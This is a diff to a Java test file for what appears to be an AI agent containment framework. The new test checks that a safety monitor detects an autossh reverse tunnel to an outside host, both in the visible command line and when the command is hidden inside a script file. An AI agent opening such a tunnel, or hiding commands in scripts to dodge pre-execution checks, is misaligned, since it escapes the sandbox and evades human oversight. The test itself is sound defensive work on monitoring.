@@ -1,6 +1,7 @@
 package dev.ale.containment;
 
 import dev.ale.core.event.SafetyEvent;
+import dev.ale.monitor.Watch;
 import dev.ale.core.passport.Passport;
 import dev.ale.core.passport.PassportLoader;
 import dev.ale.core.passport.Phase;
@@ -9,6 +10,7 @@ import dev.ale.core.sandbox.ExecResult;
 import dev.ale.core.sandbox.SandboxException;
 import dev.ale.core.sandbox.SandboxRequest;
 import dev.ale.core.sandbox.SessionRequest;
+import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.List;
 import org.junit.jupiter.api.Tag;
@@ -59,6 +61,26 @@ class GuardedBackendTest {
             ExecResult r = sh(s, "autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9");
 
             assertThat(r.events()).isNotEmpty().allSatisfy(e -> assertThat(e.step()).hasValue(4));
+        }
+    }
+
+    @Test
+    void aCommandThePreExecCheckAlertedOnIsOneActWhenTheSweepSeesItRunAndAHiddenOneIsItsOwn() {
+        Passport alertTunnels = PassportLoader.parse("id: alert-tunnels\ndetectors:\n  tunnel: {action: alert, penalty: 0.5}\n", "alert.yaml");
+        try (GuardedSandbox s = containment.containment().create(SandboxRequest.of(alertTunnels))) {
+            // the shell lives two seconds with the remote forward in its argv: sweeps see it
+            ExecResult r = sh(s, "sleep 2; autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9");
+            List<SafetyEvent> forward = r.events().stream().filter(e -> e.rule().equals("tunnel.ssh.remote-forward")).toList();
+            assertThat(forward).filteredOn(Watch::isPreExec).singleElement()
+                    .satisfies(e -> assertThat(e.isSameActSeenRunning()).isFalse());
+            assertThat(forward).filteredOn(e -> !Watch.isPreExec(e)).as("seen running, named as the same act").isNotEmpty()
+                    .allSatisfy(e -> assertThat(e.evidence()).containsEntry(SafetyEvent.ALERTED_PRE_EXEC_EVIDENCE, "true"));
+
+            // a later call whose command line says nothing of it (the script does): the sweep's finding is an act of its own
+            s.files().write("/workspace/t.sh", "sleep 2\nautossh -M 0 -R 9000:localhost:22 agent@203.0.113.9\n".getBytes(StandardCharsets.UTF_8));
+            ExecResult hidden = sh(s, "sh /workspace/t.sh");
+            assertThat(hidden.events()).filteredOn(e -> e.rule().equals("tunnel.ssh.remote-forward")).isNotEmpty()
+                    .allSatisfy(e -> assertThat(e.isSameActSeenRunning()).isFalse());
         }
     }
 
